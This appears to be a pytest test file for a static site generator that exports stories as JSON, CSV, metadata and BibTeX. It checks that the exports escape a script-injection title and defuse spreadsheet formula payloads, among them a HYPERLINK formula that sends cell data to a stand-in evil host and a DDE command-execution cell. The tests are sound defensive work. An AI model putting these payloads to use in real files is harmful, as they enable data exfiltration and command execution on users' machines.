"""Open data, citations, metadata and journeys, on a small inline site with hostile strings.

The expectations are written out here or read from rubric.yaml with PyYAML, not from the
package's model, so a mistake in the model cannot hide the same mistake in the output.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from casebook.citation import bibtex_text
from casebook.cli import main
from casebook.opendata import CSV_COLUMNS, spreadsheet_cell
from casebook.pipeline import BuildOptions, build_site

from .conftest import CONTENT, versioned
from .test_built_site import Document, Element, parse_html

BASE_URL = "https://example.org/sub/"
LICENCE = ("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/")
HOSTILE_TITLE = '</script><script>alert(1)</script> & "quoted" {braces} 50% #1 x_y $5 ^ ~ \\'
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click")'
SEPARATOR_SUMMARY = "Line\u2028and paragraph\u2029separators, then </script>"


@dataclass(frozen=True)
class Expected:
    """One story as the test wrote it."""

    slug: str
    title: str
    date: str
    institution: str
    union: str
    assessments: tuple[tuple[str, int], ...]
    tags: tuple[str, ...] = ()
    summary: str = ""
    anonymous: bool = False
    contributors: tuple[tuple[str, str], ...] = ()
    body: str = "Plain words about the partnership."
    perspective: str = "joint"
    shared: str = ""

    @property
    def news_date(self) -> str:
        return self.shared or self.date


NORTH = ("Northfield University", "Northfield Students' Union")
SECRET = ("Secretfield University", "Secretfield Students' Union")
EXPECTED = (
    Expected(
        "north-early",
        "Starting from separate plans",
        "2023-02-10",
        *NORTH,
        (("trust", 2), ("working-partnerships", 1)),
        tags=("data-sharing", "outreach"),
        summary="We began apart.",
        contributors=(("A. {Brace} Person", "officer & chair 100%"),),
    ),
    Expected(
        "north-later", HOSTILE_TITLE, "2024-04-20", *NORTH, (("trust", 4), ("shared-objectives", 2))
    ),
    Expected(
        "north-same-stage", "Holding steady", "2024-09-01", *NORTH, (("working-partnerships", 1),)
    ),
    Expected(
        "north-newest",
        "Under the new wording",
        "2026-11-22",
        *NORTH,
        (("trust", 5), ("working-partnerships", 1), ("shared-objectives", 2)),
        perspective="institution",
    ),
    Expected(
        "secret-early", "An anonymous start", "2023-06-01", *SECRET, (("trust", 2),), anonymous=True
    ),
    Expected(
        "secret-later", "An anonymous move", "2024-06-01", *SECRET, (("trust", 5),), anonymous=True
    ),
    Expected(
        "south-shared-lately",
        "Shared years later",
        "2022-05-03",
        "Southmoor University",
        "Southmoor Students' Union",
        (("time", 3),),
        shared="2026-11-20",  # an old self-assessment, shared lately: news all the same
    ),
    Expected(
        "formulas",
        FORMULA_TITLE,
        "2024-01-05",
        "+Plus University",
        "@At Students' Union",
        (("people", 3),),
        summary=SEPARATOR_SUMMARY,
        contributors=(("-2+3", "=cmd|' /C calc'!A0"),),
    ),
)
BY_SLUG = {e.slug: e for e in EXPECTED}


def story_file(e: Expected) -> str:
    front = {
        "title": e.title,
        "date": dt.date.fromisoformat(e.date),
        "partnership": {"institution": e.institution, "students_union": e.union},
        "perspective": e.perspective,
        "assessments": [{"sub_element": s, "stage": n} for s, n in e.assessments],
        "anonymous": e.anonymous,
        "example": True,
    }
    if e.shared:
        front["shared"] = dt.date.fromisoformat(e.shared)
    if e.summary:
        front["summary"] = e.summary
    if e.tags:
        front["tags"] = list(e.tags)
    if e.contributors:
        front["contributors"] = [{"name": n, "role": r} for n, r in e.contributors]
    # line and paragraph separators written raw are refused (YAML counts them as line ends,
    # editors do not): PyYAML's own escapes keep them in the values
    text = yaml.safe_dump(front, allow_unicode=False, sort_keys=False, width=1000)
    return f"---\n{text}---\n## Why\n\n{e.body}\n"


# The example rubric as first published (1.0) with a version 1.1 from 2026-11-22, so that
# stories either side of that day are assessed against different versions.
RUBRIC_TEXT = versioned(
    (CONTENT / "rubric" / "rubric.yaml").read_text(encoding="utf-8"),
    "1.1",
    '  - version: "1.1"\n    date: 2026-11-22\n'
    '    changes:\n      - "New words, for these tests."\n',
)
RUBRIC_YAML = yaml.safe_load(RUBRIC_TEXT)
SUBS = {
    sub["id"]: (commitment, sub)
    for commitment in RUBRIC_YAML["commitments"]
    for sub in commitment["sub_elements"]
}
STAGE_NAMES = {s["number"]: s["name"] for s in RUBRIC_YAML["stages"]}


@dataclass
class Built:
    root: Path
    content: Path

    def bytes(self, path: str) -> bytes:
        return (self.root / path).read_bytes()

    def json(self, path: str) -> dict:
        return json.loads(self.bytes(path))

    def page(self, path: str) -> Document:
        return parse_html((self.root / path / "index.html").read_text(encoding="utf-8"))

    def raw(self, path: str) -> str:
        return (self.root / path / "index.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("open-data")
    content = root / "content"
    (content / "stories").mkdir(parents=True)
    (content / "site.yaml").write_bytes((CONTENT / "site.yaml").read_bytes())
    (content / "rubric").mkdir()
    (content / "rubric" / "rubric.yaml").write_text(RUBRIC_TEXT, encoding="utf-8")
    assert RUBRIC_YAML["version"] == "1.1"
    for e in EXPECTED:
        (content / "stories" / f"{e.slug}.md").write_text(story_file(e), encoding="utf-8")
    options = BuildOptions(content=content, base_url=BASE_URL, today=dt.date(2026, 11, 22))
    build_site(options, root / "site")
    return Built(root / "site", content)


def story_url(slug: str) -> str:
    return f"{BASE_URL}stories/{slug}/"


def in_order() -> list[Expected]:
    return sorted(EXPECTED, key=lambda e: (e.date, e.slug))


# --- stories.json ---------------------------------------------------------------------------


def test_stories_json_has_a_header_without_build_time(built: Built):
    data = built.json("data/stories.json")
    assert list(data) == [
        "schema", "schema_version", "documentation", "site", "generated_from", "licence",
        "story_count", "stories",
    ]  # fmt: skip
    assert data["schema"] == "casebook-stories"
    assert data["documentation"] == BASE_URL + "data/"
    assert data["licence"] == {"name": LICENCE[0], "url": LICENCE[1]}
    assert data["generated_from"] == {
        "repository": "https://github.com/casebook-wp/casebook",
        "rubric_version": "1.1",
        "content_updated": "2026-11-22",
    }
    assert data["story_count"] == len(EXPECTED)


def test_stories_json_has_every_story_with_every_field(built: Built):
    stories = built.json("data/stories.json")["stories"]
    assert [s["id"] for s in stories] == [e.slug for e in in_order()]
    for record, e in zip(stories, in_order(), strict=True):
        assert record["url"] == story_url(e.slug)
        assert record["title"] == e.title
        assert record["date"] == e.date
        assert record["shared"] == (e.shared or None)
        assert record["summary"] == (e.summary or None)
        assert record["perspective"] == e.perspective
        assert record["tags"] == list(e.tags)
        assert record["example"] is True and record["draft"] is False
        assert record["anonymous"] is e.anonymous
        assert record["contributors"] == [{"name": n, "role": r} for n, r in e.contributors]
        assert record["rubric_version"] == ("1.1" if e.date >= "2026-11-22" else "1.0")
        assert record["body_text"] == f"Why {e.body}"
        expected_assessments = []
        for sub_id, stage in e.assessments:
            commitment, sub = SUBS[sub_id]
            expected_assessments.append(
                {
                    "commitment_id": commitment["id"],
                    "commitment": commitment["name"],
                    "sub_element_id": sub_id,
                    "sub_element": sub["name"],
                    "stage": stage,
                    "stage_name": STAGE_NAMES[stage],
                    "url": f"{BASE_URL}rubric/{sub_id}/{stage}/",
                }
            )
        assert record["assessments"] == expected_assessments


def test_stories_json_names_partnerships_unless_anonymous(built: Built):
    for record in built.json("data/stories.json")["stories"]:
        e = BY_SLUG[record["id"]]
        if e.anonymous:
            assert record["partnership"] == {
                "institution": None,
                "students_union": None,
                "url": None,
            }
        else:
            assert record["partnership"]["institution"] == e.institution
            assert record["partnership"]["students_union"] == e.union
            assert record["partnership"]["url"].startswith(BASE_URL + "partnerships/")


@pytest.mark.parametrize("path", ["data/stories.json", "data/stories.csv", "data/rubric.json"])
def test_anonymous_names_are_in_no_data_file(built: Built, path: str):
    data = built.bytes(path).decode("utf-8-sig")
    assert "Secretfield" not in data


@pytest.mark.parametrize("path", ["data/stories.json", "data/rubric.json"])
def test_json_escapes_what_could_end_a_script(built: Built, path: str):
    raw = built.bytes(path)
    for character in ("<", ">", "&", "\u2028", "\u2029"):
        assert character.encode() not in raw, f"raw {character!r} in {path}"
    assert raw.endswith(b"\n") and not raw.startswith(b"\xef\xbb\xbf")


def test_json_gives_back_the_exact_strings(built: Built):
    stories = {s["id"]: s for s in built.json("data/stories.json")["stories"]}
    assert stories["north-later"]["title"] == HOSTILE_TITLE
    assert stories["formulas"]["title"] == FORMULA_TITLE
    assert stories["formulas"]["summary"] == SEPARATOR_SUMMARY


# --- stories.csv ----------------------------------------------------------------------------


def csv_records(built: Built) -> list[list[str]]:
    raw = built.bytes("data/stories.csv")
    assert raw.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte order mark, for Excel"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_has_one_row_per_assessment(built: Built):
    header, *rows = csv_records(built)
    assert tuple(header) == CSV_COLUMNS
    expected = []
    for e in in_order():
        for sub_id, stage in e.assessments:
            commitment, sub = SUBS[sub_id]
            expected.append(
                [
                    e.slug,
                    story_url(e.slug),
                    spreadsheet_cell(e.title),
                    e.date,
                    "true" if e.anonymous else "false",
                    "" if e.anonymous else spreadsheet_cell(e.institution),
                    "" if e.anonymous else spreadsheet_cell(e.union),
                    e.perspective,
                    commitment["id"],
                    commitment["name"],
                    sub_id,
                    sub["name"],
                    str(stage),
                    STAGE_NAMES[stage],
                    "1.1" if e.date >= "2026-11-22" else "1.0",
                    "; ".join(e.tags),
                    "true",
                    e.shared,
                ]
            )
    assert rows == expected


def test_csv_defuses_formulas(built: Built):
    rows = {row[0]: row for row in csv_records(built)[1:]}
    formulas = rows["formulas"]
    assert formulas[2] == "'" + FORMULA_TITLE
    assert formulas[5:7] == ["'+Plus University", "'@At Students' Union"]
    for row in csv_records(built):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_is_rfc_4180(built: Built):
    text = built.bytes("data/stories.csv").decode("utf-8-sig")
    records = text.split("\r\n")
    assert records[-1] == "" and all("\n" not in r and "\r" not in r for r in records)
    hostile = next(r for r in records if r.startswith("north-later,"))
    # quotes doubled inside a quoted field
    assert '"</script><script>alert(1)</script> & ""quoted"" {braces}' in hostile


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1202", "'+44 1202"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindent", "'\tindent"),
        ("\rreturn", "'\rreturn"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("'already", "'already"),
    ],
)
def test_spreadsheet_cell(cell: str, shown: str):
    assert spreadsheet_cell(cell) == shown


def test_stories_json_has_each_story_on_one_line(built: Built):
    text = (built.root / "data/stories.json").read_text(encoding="utf-8")
    lines = text.split("\n")
    records = [line.strip().rstrip(",") for line in lines if line.startswith('    {"id":')]
    assert [json.loads(r)["id"] for r in records] == [e.slug for e in in_order()]
    assert lines[0] == "{" and lines[-3:] == ["  ]", "}", ""]
    assert json.loads(text)["stories"] == [json.loads(r) for r in records]


def test_stories_json_with_no_stories_is_valid(content_tree):
    from casebook.pipeline import check_site

    files = {f.path: f.data for f in check_site(BuildOptions(content=content_tree({}))).files}
    data = json.loads(files["data/stories.json"])
    assert data["stories"] == [] and data["story_count"] == 0


def test_csv_keeps_a_line_break_inside_one_quoted_field(content_tree):
    from casebook.pipeline import check_site

    from .conftest import story

    root = content_tree({"a.md": story(title='"Two\\nlines, one title"')})
    files = {f.path: f.data for f in check_site(BuildOptions(content=root)).files}
    text = files["data/stories.csv"].decode("utf-8")
    assert text.startswith("\ufeffstory_id,") and text.count("\r\n") == 2
    assert ',"Two\nlines, one title",' in text.split("\r\n")[1]


# --- rubric.json ----------------------------------------------------------------------------


def test_rubric_json_is_the_rubric_verbatim(built: Built):
    data = built.json("data/rubric.json")
    assert data["schema"] == "casebook-rubric"
    for key in ("title", "short_title", "authors", "makers", "introduction", "how_it_works"):
        assert data[key] == RUBRIC_YAML[key]
    assert data["version"] == RUBRIC_YAML["version"]
    assert data["stages"] == RUBRIC_YAML["stages"]
    assert data["changelog"] == [
        {
            "version": v["version"],
            "date": v["date"].isoformat() if v.get("date") else None,
            "changes": v["changes"],
            "replaced": v.get("replaced", []),
        }
        for v in RUBRIC_YAML["changelog"]
    ]
    assert len(data["commitments"]) == len(RUBRIC_YAML["commitments"])
    for got, want in zip(data["commitments"], RUBRIC_YAML["commitments"], strict=True):
        for key in ("id", "number", "name", "question", "summary"):
            assert got[key] == want[key]
        for sub, source in zip(got["sub_elements"], want["sub_elements"], strict=True):
            assert (sub["id"], sub["letter"], sub["name"]) == (
                source["id"],
                source["letter"],
                source["name"],
            )
            assert sub["descriptors"] == [
                {"stage": n, "stage_name": STAGE_NAMES[n], "text": text}
                for n, text in enumerate(source["descriptors"], start=1)
            ]
    assert "Joff Cooke" in data["attribution"] and "word for word" in data["attribution"]


def test_data_files_are_the_same_bytes_twice(built: Built, tmp_path: Path):
    options = BuildOptions(content=built.content, base_url=BASE_URL, today=dt.date(2026, 11, 22))
    build_site(options, tmp_path / "again")
    for path in ("data/stories.json", "data/stories.csv", "data/rubric.json", "data/index.html"):
        assert (tmp_path / "again" / path).read_bytes() == built.bytes(path), path


# --- the /data/ page ------------------------------------------------------------------------


def field_names(doc: Document, caption_id: str) -> list[str]:
    table = next(t for t in doc.find_all("table") if t.one("caption").attrs["id"] == caption_id)
    return [tr.one("th").plain for tr in table.one("tbody").find_all("tr")]


def test_data_page_documents_every_field(built: Built):
    doc = built.page("data")
    stories = built.json("data/stories.json")
    rubric = built.json("data/rubric.json")
    header = field_names(doc, "header-fields")
    assert header == list(stories)[: len(header)] == list(rubric)[: len(header)]
    assert header + field_names(doc, "stories-json-fields") == list(stories)
    assert field_names(doc, "story-fields") == list(stories["stories"][0])
    assert field_names(doc, "assessment-fields") == list(stories["stories"][0]["assessments"][0])
    assert field_names(doc, "csv-fields") == list(CSV_COLUMNS)
    assert header + field_names(doc, "rubric-fields") == list(rubric)
    links = {a.attrs["href"] for a in doc.main.find_all("a")}
    assert {"/sub/data/stories.json", "/sub/data/stories.csv", "/sub/data/rubric.json"} <= links
    assert LICENCE[1] in links


@pytest.mark.parametrize("page", ["about", "stories"])
def test_the_data_page_is_linked(built: Built, page: str):
    doc = built.page(page)
    assert "/sub/data/" in {a.attrs.get("href") for a in doc.iter() if a.tag == "a"}


# --- metadata: Open Graph, Twitter, JSON-LD --------------------------------------------------


def meta(doc: Document) -> dict[str, str]:
    found: dict[str, str] = {}
    for m in doc.find_all("meta"):
        key = m.attrs.get("property") or m.attrs.get("name")
        if key:
            assert key not in found, f"two <meta> for {key}"
            found[key] = m.attrs["content"]
    return found


def json_ld(doc: Document) -> list[dict]:
    blocks = [s for s in doc.find_all("script") if s.attrs.get("type") == "application/ld+json"]
    return [json.loads(s.text) for s in blocks]


def every_page(built: Built) -> list[str]:
    return sorted(
        p.parent.relative_to(built.root).as_posix() for p in built.root.rglob("index.html")
    )


def test_every_page_has_open_graph_and_twitter_tags(built: Built):
    for path in every_page(built):
        doc = built.page(path)
        tags = meta(doc)
        canonical = next(
            link.attrs["href"]
            for link in doc.find_all("link")
            if link.attrs.get("rel") == "canonical"
        )
        assert tags["og:url"] == canonical, path
        assert tags["og:site_name"] == "casebook"
        assert tags["og:title"] and tags["og:description"] == tags["description"], path
        assert tags["twitter:card"] == "summary"
        is_story = path.startswith("stories/") and path != "stories"
        assert tags["og:type"] == ("article" if is_story else "website"), path
        assert bool(json_ld(doc)) == is_story, path


def test_story_metadata_keeps_hostile_strings_as_text(built: Built):
    doc = built.page("stories/north-later")
    tags = meta(doc)
    assert tags["og:title"] == HOSTILE_TITLE
    assert tags["article:published_time"] == "2024-04-20"
    assert doc.one("h1").plain.startswith(HOSTILE_TITLE.strip())
    raw = built.raw("stories/north-later")
    # the JSON-LD and tables.js
    assert raw.count("<script") == 2, "the title opened a script"
    (article,) = json_ld(doc)
    assert article["headline"] == HOSTILE_TITLE
    assert article["@type"] == "Article" and article["datePublished"] == "2024-04-20"
    assert article["url"] == article["mainEntityOfPage"] == story_url("north-later")
    assert article["inLanguage"] == "en-GB"
    assert article["license"] == LICENCE[1]
    assert article["author"] == [
        {"@type": "Organization", "name": NORTH[0]},
        {"@type": "Organization", "name": NORTH[1]},
    ]
    assert article["publisher"] == {"@type": "Organization", "name": "casebook", "url": BASE_URL}
    assert article["isPartOf"] == {"@type": "WebSite", "name": "casebook", "url": BASE_URL}


def test_line_separators_stay_escaped_in_json_ld(built: Built):
    raw = built.raw("stories/formulas")
    block = raw.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "\u2028" not in block and "\u2029" not in block and "<" not in block
    assert json.loads(block)["description"] == SEPARATOR_SUMMARY


@pytest.mark.parametrize("slug", ["secret-early", "secret-later"])
def test_anonymous_story_pages_name_no_one(built: Built, slug: str):
    assert "Secretfield" not in built.raw(f"stories/{slug}")
    (article,) = json_ld(built.page(f"stories/{slug}"))
    assert "author" not in article


def test_feed_entries_have_summaries(built: Built):
    feed = ET.fromstring(built.bytes("feed.xml"))
    atom = "{http://www.w3.org/2005/Atom}"
    summaries = {
        entry.find(f"{atom}id").text: entry.find(f"{atom}summary").text
        for entry in feed.iter(f"{atom}entry")
    }
    assert summaries[story_url("north-early")] == "We began apart."
    assert summaries[story_url("north-later")] == "Why Plain words about the partnership."
    assert summaries[story_url("formulas")] == SEPARATOR_SUMMARY


def latest_first() -> list[Expected]:
    return sorted(EXPECTED, key=lambda e: (e.news_date, e.date, e.slug), reverse=True)


def test_the_feed_and_the_home_page_put_the_latest_shared_first(built: Built):
    """A story shared lately about an older self-assessment is news, not history."""
    feed = ET.fromstring(built.bytes("feed.xml"))
    atom = "{http://www.w3.org/2005/Atom}"
    entries = [
        (e.find(f"{atom}id").text, e.find(f"{atom}published").text, e.find(f"{atom}updated").text)
        for e in feed.iter(f"{atom}entry")
    ]
    assert entries == [
        (story_url(e.slug), f"{e.news_date}T00:00:00Z", f"{e.news_date}T00:00:00Z")
        for e in latest_first()
    ]
    assert latest_first()[1].slug == "south-shared-lately"  # the oldest self-assessment
    assert feed.find(f"{atom}updated").text == "2026-11-22T00:00:00Z"
    home = built.page("")
    titles = [h.find("a").plain for h in home.main.find_all("h3")]
    assert titles == [e.title.strip() for e in latest_first()[:6]]


def test_a_story_page_says_when_it_was_shared(built: Built):
    doc = built.page("stories/south-shared-lately")
    facts = {
        dt_.plain: dt_.parent.find("dd")
        for dt_ in doc.main.find_all("dt")
        if dt_.parent is not None
    }
    assert facts["Self-assessed on"].plain == "3 May 2022"
    shared = facts["Shared here on"].find("time")
    assert (shared.plain, shared.attrs["datetime"]) == ("20 November 2026", "2026-11-20")
    assert meta(doc)["article:published_time"] == "2026-11-20"
    (article,) = json_ld(doc)
    assert article["datePublished"] == "2026-11-20"
    citation = next(p for p in cite_section(doc).find_all("p") if p.has_class("citation"))
    assert citation.plain.startswith(
        "Southmoor University and Southmoor Students' Union (2026). Shared years later"
    )
    assert "self-assessment of 3 May 2022" in citation.plain
    assert "Shared here on" not in built.raw("stories/north-later")


# --- licence and citation -------------------------------------------------------------------


def cite_section(doc: Document) -> Element:
    return next(s for s in doc.main.find_all("section") if s.attrs.get("aria-labelledby") == "cite")


def test_story_page_has_a_licence_line(built: Built):
    section = cite_section(built.page("stories/north-early"))
    licence = next(a for a in section.find_all("a") if a.attrs.get("rel") == "license")
    assert (licence.plain, licence.attrs["href"]) == LICENCE


def test_plain_citation(built: Built):
    section = cite_section(built.page("stories/north-early"))
    assert section.find("p").has_class("licence")
    citation = next(p for p in section.find_all("p") if p.has_class("citation"))
    assert citation.plain == (
        "Northfield University and Northfield Students' Union (2023). Starting from separate "
        "plans [fictional example]. casebook, self-assessment of 10 February 2023, version "
        f"1.0 of the tool. CC BY 4.0. {story_url('north-early')}"
    )
    anonymous = cite_section(built.page("stories/secret-early"))
    text = next(p for p in anonymous.find_all("p") if p.has_class("citation")).plain
    assert text.startswith("An anonymous partnership (2023). An anonymous start")


def bibtex_of(built: Built, slug: str) -> str:
    return cite_section(built.page(f"stories/{slug}")).one("pre").text


def bibtex_fields(entry: str) -> dict[str, str]:
    """A small BibTeX reader: field = {balanced braces} or a bare word; fails on imbalance."""
    head, _, body = entry.partition(",\n")
    assert re.fullmatch(r"@misc\{casebook-[a-z0-9-]+", head), head
    fields, i = {}, 0
    while True:
        match = re.compile(r"\s*(\w+) = ").match(body, i)
        if not match:
            break
        i = match.end()
        if body[i] == "{":
            depth, start = 0, i
            while True:
                if body[i] == "{":
                    depth += 1
                elif body[i] == "}":
                    depth -= 1
                    if depth == 0:
                        break
                i += 1
            fields[match[1]] = body[start + 1 : i]
            i += 1
        else:
            word = re.compile(r"\w+").match(body, i)
            assert word, body[i:]
            fields[match[1]] = word[0]
            i = word.end()
        assert body[i] == ",", body[i:]
        i += 1
    assert body[i:].strip() == "}", f"unparsed: {body[i:]!r}"
    return fields


def test_bibtex_entry(built: Built):
    fields = bibtex_fields(bibtex_of(built, "north-early"))
    assert fields == {
        "author": "{Northfield University} and {Northfield Students' Union}",
        "title": "{Starting from separate plans}",
        "year": "2023",
        "month": "feb",
        "howpublished": "casebook",
        "url": story_url("north-early"),
        "note": "Self-assessment of 2023-02-10, version 1.0 of the tool; a fictional example. "
        "Licence: CC BY 4.0",
    }


def test_bibtex_escapes_a_hostile_title(built: Built):
    fields = bibtex_fields(bibtex_of(built, "north-later"))
    assert fields["title"] == "{" + bibtex_text(HOSTILE_TITLE) + "}"
    assert fields["title"] == (
        r"{</script><script>alert(1)</script> \& " + '"quoted" '
        r"\textbraceleft{}braces\textbraceright{} 50\% \#1 x\_y \$5 \textasciicircum{} "
        r"\textasciitilde{} \textbackslash{}}"
    )
    assert bibtex_fields(bibtex_of(built, "secret-early"))["author"] == "{An anonymous partnership}"


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("{", r"\textbraceleft{}"),
        ("}", r"\textbraceright{}"),
        ("\\", r"\textbackslash{}"),
        ("a & b % c # d _ e $ f", r"a \& b \% c \# d \_ e \$ f"),
        ("^~", r"\textasciicircum{}\textasciitilde{}"),
        ("two\nlines", "two lines"),
        ("Université d'Été", "Université d'Été"),
    ],
)
def test_bibtex_text(text: str, escaped: str):
    assert bibtex_text(text) == escaped


# --- the licence setting --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("licence", "message"),
    [
        (
            "",
            "content/site.yaml:2: missing field 'licence'; add it, for example: "
            'licence: {name: "CC BY 4.0", url: "https://creativecommons.org/licenses/by/4.0/"}',
        ),
        (
            'licence: "CC BY 4.0"\n',
            "content/site.yaml:11: licence must be a set of fields (name and url), not 'CC BY 4.0'",
        ),
        (
            'licence:\n  name: "CC BY 4.0"\n  url: "creativecommons.org"\n',
            "content/site.yaml:13: the licence 'url' must be a web address starting https://, "
            "not 'creativecommons.org'",
        ),
        (
            'licence:\n  name: "CC BY 4.0"\n',
            "content/site.yaml:11: missing field 'url'; add it to licence, for example: "
            'url: "https://creativecommons.org/licenses/by/4.0/"',
        ),
    ],
    ids=["missing", "not-a-mapping", "bad-url", "no-url"],
)
def test_licence_setting_errors(content_tree, monkeypatch, capsys, licence: str, message: str):
    root = content_tree({})
    site = root / "site.yaml"
    text = site.read_text(encoding="utf-8")
    start = text.index("\n# The licence")
    site.write_text(text[: start + 1] + licence, encoding="utf-8")
    monkeypatch.chdir(root.parent)
    assert main(["check"]) == 1
    err = capsys.readouterr().err
    assert message in err, err


# --- journeys -------------------------------------------------------------------------------


def chart_of(built: Built, partnership: str) -> ET.Element:
    raw = built.raw(f"partnerships/{partnership}")
    svg = raw[raw.index("<svg") : raw.index("</svg>") + len("</svg>")]
    return ET.fromstring(svg)


NORTH_SLUG = "northfield-university-northfield-students-union"


def test_journey_chart_is_an_accessible_image(built: Built):
    svg = chart_of(built, NORTH_SLUG)
    assert svg.get("role") == "img"
    assert svg.get("viewBox") == "0 0 480 280"
    title, desc = svg.get("aria-labelledby", "").split()
    assert svg.find("title").get("id") == title and svg.find("desc").get("id") == desc
    assert "Northfield University" in svg.find("title").text
    assert "The table below gives the same stages as text" in svg.find("desc").text
    labels = [
        "".join(t.itertext()).strip()
        for t in svg.iter("text")
        if "journey-chart__stage" in t.get("class", "")
    ]
    assert labels == [f"{n} {STAGE_NAMES[n]}" for n in (1, 2, 3, 4, 5)]
    doc = built.page(f"partnerships/{NORTH_SLUG}")
    legend = [li.plain for li in doc.one("figure").find_all("li")]
    assert legend == ["Developing trust", "Positive working partnerships", "Shared objectives"]
    assert doc.find_all("table"), "the table stays as the chart's text equivalent"


def points_of(svg: ET.Element) -> dict[str, list[tuple[float, float, str, int]]]:
    series = {}
    for g in svg.iter("g"):
        if g.get("data-sub-element"):
            points = []
            for point in g.iter("g"):
                if point.get("data-date"):
                    x, y = map(
                        float,
                        re.fullmatch(r"translate\((\S+) (\S+)\)", point.get("transform")).groups(),
                    )
                    points.append((x, y, point.get("data-date"), int(point.get("data-stage"))))
            series[g.get("data-sub-element")] = points
    return series


def test_journey_chart_points_match_the_stories(built: Built):
    series = points_of(chart_of(built, NORTH_SLUG))
    north = [e for e in in_order() if e.institution == NORTH[0]]
    expected = {}
    for e in north:
        for sub_id, stage in e.assessments:
            expected.setdefault(sub_id, []).append((e.date, stage))
    assert list(series) == [s for s in SUBS if s in expected], (
        "one series per sub-element, rubric order"
    )
    for sub_id, points in series.items():
        assert [(d, s) for _, _, d, s in points] == expected[sub_id]
    # y: stage 1 on the bottom line (y 236), stage 5 on the top line (y 16), evenly between
    for points in series.values():
        for _, y, _, stage in points:
            assert y == pytest.approx(16 + (5 - stage) * 55)
    # x: proportional to time from the first story (x 142) to the last (x 444), give or take
    # the sideways spread of points that share a date and a stage
    first, last = dt.date.fromisoformat(north[0].date), dt.date.fromisoformat(north[-1].date)
    for points in series.values():
        for x, _, date, _ in points:
            share = (dt.date.fromisoformat(date) - first).days / (last - first).days
            assert abs(x - (142 + 302 * share)) <= 14, (x, date)
    placed = [(x, y) for points in series.values() for x, y, _, _ in points]
    assert len(set(placed)) == len(placed), "two markers on the same spot"


def test_journey_chart_spreads_points_that_share_a_date_and_stage(built: Built):
    series = points_of(chart_of(built, NORTH_SLUG))
    newest = {sub: [p for p in points if p[2] == "2026-11-22"] for sub, points in series.items()}
    xs = {sub: p[0][0] for sub, p in newest.items()}
    # working-partnerships at 1, shared-objectives at 2, trust at 5: all different stages
    assert len(set(xs.values())) == 1, "points at different stages keep the date's x"


def test_journey_key_shapes_match_the_chart_markers():
    """The key's CSS clip-paths are the chart's marker polygons, as percentages of 14 units."""
    from casebook.journey_chart import SHAPES

    css = (Path(__file__).parents[1] / "templates" / "static" / "site.css").read_text()
    for number, shape in enumerate(SHAPES[1:], start=2):
        rule = re.search(
            rf"\.journey-key\.journey-series--{number} {{ clip-path: polygon\(([^)]*)\)", css
        )
        assert rule, number
        css_points = [
            tuple(float(v.rstrip("%")) for v in pair.split()) for pair in rule[1].split(", ")
        ]
        numbers = [float(n) for n in re.findall(r"-?\d+(?:\.\d+)?", shape)]
        svg_points = list(zip(numbers[0::2], numbers[1::2], strict=True))
        assert len(css_points) == len(svg_points)
        for (cx, cy), (sx, sy) in zip(css_points, svg_points, strict=True):
            assert cx == pytest.approx((sx + 7) / 14 * 100, abs=0.06)
            assert cy == pytest.approx((sy + 7) / 14 * 100, abs=0.06)


# --- how others moved on --------------------------------------------------------------------


def moved_on(built: Built, sub: str, stage: int) -> list[str]:
    doc = built.page(f"rubric/{sub}/{stage}")
    headings = [h for h in doc.main.find_all("h3") if h.plain == "How others moved on from here"]
    if not headings:
        return []
    return [li.plain for li in headings[0].next_element().find_all("li")]


def test_moved_on_shows_the_higher_stage_and_the_time_it_took(built: Built):
    assert moved_on(built, "trust", 2) == [
        "Northfield University and Northfield Students' Union moved from Developing to "
        f"Refining in 14 months: Starting from separate plans Example (10 February 2023), then "
        f"{HOSTILE_TITLE.strip()} Example (20 April 2024)."
    ]
    doc = built.page("rubric/trust/2")
    links = [a.attrs["href"] for a in doc.main.find_all("a")]
    assert "/sub/stories/north-early/" in links and "/sub/stories/north-later/" in links


def test_moved_on_leaves_out_anonymous_and_steady_partnerships(built: Built):
    # Secretfield went from 2 to 5 on trust, but anonymous stories are never grouped
    assert all("Secretfield" not in line for line in moved_on(built, "trust", 2))
    # Northfield stayed at 1 for working partnerships
    assert moved_on(built, "working-partnerships", 1) == []
    # Northfield's move from 4 to 5 on trust
    assert moved_on(built, "trust", 4)[0].startswith(
        "Northfield University and Northfield Students' Union moved from Refining to Best "
        "practice in 31 months:"
    )
